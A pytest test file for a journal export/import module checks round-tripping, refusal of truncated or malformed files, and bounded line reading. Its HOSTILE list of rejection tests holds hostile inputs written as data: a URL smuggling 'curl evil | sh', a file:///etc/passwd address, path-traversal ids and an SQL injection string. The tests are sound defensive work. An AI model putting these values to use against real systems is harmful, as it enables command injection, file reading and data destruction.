"""The journal as lines: out and in again without loss, and nothing half."""

from __future__ import annotations

import io
import json
from collections.abc import Sequence

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from gumnut_tui.api.address import base_address
from gumnut_tui.domain.errors import UsageProblem
from gumnut_tui.domain.models import Entity, to_us
from gumnut_tui.journal import export_import as transfer
from gumnut_tui.journal import libraries, pages, snapshots
from gumnut_tui.journal.database import Database
from gumnut_tui.journal.records import LibraryRecord
from tests.factories import NOW, make_event
from tests.journal.memory import memory_database
from tests.journal.sources import KEY, page_of


def taken_in(db: Database, lines: Sequence[bytes]) -> list[LibraryRecord]:
    """Import lines by the rules for addresses that hold everywhere."""
    return transfer.import_(db, lines, base_address)


def exported(db: Database) -> list[bytes]:
    """The lines of every library."""
    lines: list[bytes] = []
    for library in libraries.all_libraries(db):
        transfer.export(db, library, lines.append)
    return lines


def filled(texts: Sequence[str] = ("a",)) -> Database:
    """A journal with two libraries, events with these texts, snapshots, a break and something unread."""
    db = memory_database()
    for number, key in enumerate((KEY, type(KEY)("http://localhost", "", ""))):
        library = libraries.begin(db, key, f"Family {number} ☃", 5 if number else None, to_us(NOW))
        events = [
            make_event(at, cursor=f"{at}-{text}", entity_id=text, event_type=text, payload={"any": text})
            for at, text in enumerate(texts)
        ]
        with db.transaction():
            library = pages.append(db, library, page_of(events, has_more=False), 9).record
            photo = Entity("asset", "a", {"id": "a", "thumbhash": "1QcSHQRnh493V4dIh4eXh1h4kJUI", "x": 1.5}, NOW)
            snapshots.store(db, library.row, "asset", ["a", "gone"], {"a": photo}, to_us(NOW))
            snapshots.note(db, library.row, {("face", "f"): 7})
        libraries.break_off(db, library.row, "restored", 11)
    return db


@given(st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=8), max_size=5))
def test_what_goes_out_comes_in_again(texts: list[str]) -> None:
    """A journal made of the lines of another gives the same lines."""
    lines = exported(filled(texts))
    other = memory_database()
    assert len(taken_in(other, lines)) == 2
    assert exported(other) == lines


@pytest.mark.parametrize("written", ["https://api.example.org/", " https://api.example.org\n"])
def test_an_address_is_kept_as_a_configured_one_is(written: str) -> None:
    """So that a library is found by it, and nothing but an address goes into a command."""
    db = memory_database()
    lines = exported(filled())
    head = msgspec.json.decode(lines[0])
    record, *_ = taken_in(db, [msgspec.json.encode(head | {"base_url": written}), *lines[1:]])
    assert record.key.base_url == "https://api.example.org"


def test_an_event_line_is_the_event_as_the_service_gave_it() -> None:
    """With the word `event` in front; other programs can read it."""
    line = json.loads(next(line for line in exported(filled()) if b'"event"' in line))
    assert line == {
        "record": "event",
        "cursor": "0-a",
        "entity_type": "asset",
        "entity_id": "a",
        "event_type": "a",
        "created_at": "2026-11-19T12:00:00Z",
        "payload": {"any": "a"},
    }


def test_a_file_without_a_library_is_refused() -> None:
    """An export that was cut off before its first line must not pass for a success."""
    for lines in ([], [b"\n"]):
        with pytest.raises(UsageProblem, match="no library"):
            taken_in(memory_database(), lines)


def test_a_cut_off_file_is_refused_whole() -> None:
    """Wherever it ends, unless at the end of a library: nothing of it is taken in."""
    lines = exported(filled(["a", "b"]))
    whole = {0, 1 + next(at for at, line in enumerate(lines) if b'"end"' in line), len(lines)}
    for count in set(range(len(lines))) - whole:
        other = memory_database()
        with pytest.raises(UsageProblem, match="cannot be imported"):
            taken_in(other, lines[:count])
        assert libraries.all_libraries(other) == []


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda lines: [b"{}\n", *lines], "line 1 "),
        (lambda lines: [lines[0], b"no json\n", *lines[1:]], "line 2 "),
        (lambda lines: [lines[0].replace(b'"format":1', b'"format":99'), *lines[1:]], "format 99"),
        (lambda lines: [*lines[:3], lines[2], *lines[3:]], "line 4 .* duplicate"),
        (lambda lines: [*lines[:2], *lines[3:]], "incomplete"),
        (lambda lines: [*lines, *lines], "in the journal already"),
    ],
)
def test_lines_that_do_not_fit_are_refused_by_number(change, words: str) -> None:  # type: ignore[no-untyped-def]
    """What is wrong is said with its line, and nothing is taken in."""
    lines = change(exported(filled(["a", "b"])))
    other = memory_database()
    with pytest.raises(UsageProblem, match=words):
        taken_in(other, lines)
    assert libraries.all_libraries(other) == []


HEAD = {
    "record": "library", "format": 1, "base_url": "https://api.example.com", "account": "user_1", "library_id": "lib_1",
    "name": "Family", "since": None, "began": "2026-11-20T12:00:00Z", "synced": None, "cursor": None,
}  # fmt: skip
EVENT = {
    "record": "event", "cursor": "c", "entity_type": "asset", "entity_id": "a", "event_type": "asset_created",
    "created_at": "2026-11-20T12:00:00Z", "payload": None,
}  # fmt: skip
SNAPSHOT = {
    "record": "snapshot", "kind": "asset", "id": "a", "read_at": "2026-11-20T12:00:00Z",
    "seen_at": "2026-11-20T12:00:00Z", "fields": {"id": "a"},
}  # fmt: skip
BREAK = {"record": "break", "at": "2026-11-20T12:00:00Z", "events": 0, "cursor": None, "reason": ""}
UNREAD = {"record": "unread", "kind": "asset", "id": "b", "named_us": 0}
HOSTILE = [
    (HEAD, "base_url", "http://evil.example"),
    (HEAD, "base_url", "https://user:secret@evil.example"),
    (HEAD, "base_url", "https://evil.example/'; curl evil | sh; '"),
    (HEAD, "base_url", "file:///etc/passwd"),
    (HEAD, "base_url", "https://" + "x" * 5000),
    (HEAD, "account", "../../etc"),
    (HEAD, "library_id", ".."),
    (HEAD, "library_id", "lib_1/../../assets"),
    (HEAD, "library_id", "lib\\u0000"),
    (HEAD, "library_id", 7),
    (HEAD, "name", "n" * 100_000),
    (HEAD, "name", ["Family"]),
    (HEAD, "name", "\0"),
    (HEAD, "began", "0001-01-01T00:00:00+14:00"),
    (HEAD, "began", "9999-12-31T23:59:59-14:00"),
    (HEAD, "began", "2026-11-20T12:00:00"),
    (HEAD, "since", "0001-01-01T00:00:00Z"),
    (HEAD, "synced", 10**40),
    (HEAD, "cursor", "c" * 100_000),
    (HEAD, "format", 10**30),
    (EVENT, "created_at", "9999-12-31T23:59:59.999999-14:00"),
    (EVENT, "created_at", -1),
    (EVENT, "entity_id", "x" * 100_000),
    (EVENT, "entity_id", None),
    (EVENT, "cursor", "\0"),
    (EVENT, "entity_type", {"a": 1}),
    (SNAPSHOT, "kind", "Asset'; DROP TABLE library; --"),
    (SNAPSHOT, "kind", "../asset"),
    (SNAPSHOT, "fields", []),
    (SNAPSHOT, "read_at", "0001-01-01T00:00:00Z"),
    (BREAK, "events", 2**70),
    (BREAK, "events", -1),
    (BREAK, "at", "9999-12-31T23:59:59.999999-01:00"),
    (BREAK, "reason", "r" * 100_000),
    (UNREAD, "named_us", 2**63),
    (UNREAD, "named_us", -(2**63)),
    (UNREAD, "named_us", 1.5),
]


def test_any_event_the_feed_may_tell_goes_out_and_comes_in_again() -> None:
    """Of any year, with a cursor, an id or types of any length and of any characters: a backup is no backup without."""
    odd: list[dict[str, object]] = [
        {"created_at": "0001-01-01T00:00:00Z"},
        {"created_at": "9999-12-31T23:59:59.999999Z"},
        {"cursor": "c" * 60_000, "entity_id": "i" * 60_000, "entity_type": "t" * 60_000, "event_type": "e" * 60_000},
        {"entity_id": "\0", "entity_type": "\0\ud7ff", "event_type": "\x1b]0;x\x07"},
    ]
    events = [EVENT | {"cursor": f"c{number}"} | one for number, one in enumerate(odd)]
    lines: list[dict[str, object]] = [
        HEAD | {"name": "n" * 60_000},
        *events,
        {"record": "end", "events": len(odd), "snapshots": 0},
    ]
    db = memory_database()
    assert len(taken_in(db, [_json(line) for line in lines])) == 1
    out = exported(db)
    again = memory_database()
    taken_in(again, out)
    assert exported(again) == out
    assert [json.loads(line)["entity_id"] for line in out[1:-1]] == [event["entity_id"] for event in events]


@pytest.mark.parametrize(("line", "name", "value"), HOSTILE, ids=lambda value: str(value)[:30])
def test_a_strangers_file_is_taken_by_its_rules_or_not_at_all(
    line: dict[str, object], name: str, value: object
) -> None:
    """Wrong kinds, huge numbers and texts, the ends of time, paths: one error that names the line; nothing is kept."""
    lines = [dict(one) for one in (HEAD, EVENT, BREAK, SNAPSHOT, UNREAD)]
    at = next(number for number, one in enumerate(lines) if one["record"] == line["record"])
    end = {"record": "end", "events": 1, "snapshots": 1}
    assert len(taken_in(memory_database(), [_json(one) for one in (*lines, end)])) == 1
    lines[at][name] = value
    other = memory_database()
    with pytest.raises(UsageProblem, match=f"line {at + 1} ") as caught:
        taken_in(other, [_json(one) for one in (*lines, end)])
    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 500
    assert "secret" not in str(caught.value)
    assert exported(other) == []


@pytest.mark.parametrize(
    "line",
    [
        b'{"record":"event","cursor":"\\ud800"}',
        b"\xff\xfe\n",
        b"[" * 100_000,
        b"9" * 10_000,
        b"x" * (transfer.MOST_LINE_BYTES + 1),
    ],
    ids=["surrogate", "bytes", "deep", "number", "long"],
)
def test_bytes_that_are_no_line_are_refused(line: bytes) -> None:
    """Half surrogate pairs, deep nesting, and a line without an end."""
    other = memory_database()
    with pytest.raises(UsageProblem, match="line 2 "):
        taken_in(other, [_json(HEAD), line])
    assert exported(other) == []


def test_lines_are_read_with_a_bound() -> None:
    """A file that is one line of any length is not held in memory."""
    file = io.BytesIO(b"x" * (transfer.MOST_LINE_BYTES + 10) + b"\nabc\n")
    lengths = [len(line) for line in transfer.lines_of(file)]
    assert lengths[0] == transfer.MOST_LINE_BYTES + 1
    assert sum(lengths) == transfer.MOST_LINE_BYTES + 15


def _json(line: dict[str, object]) -> bytes:
    return json.dumps(line).encode() + b"\n"
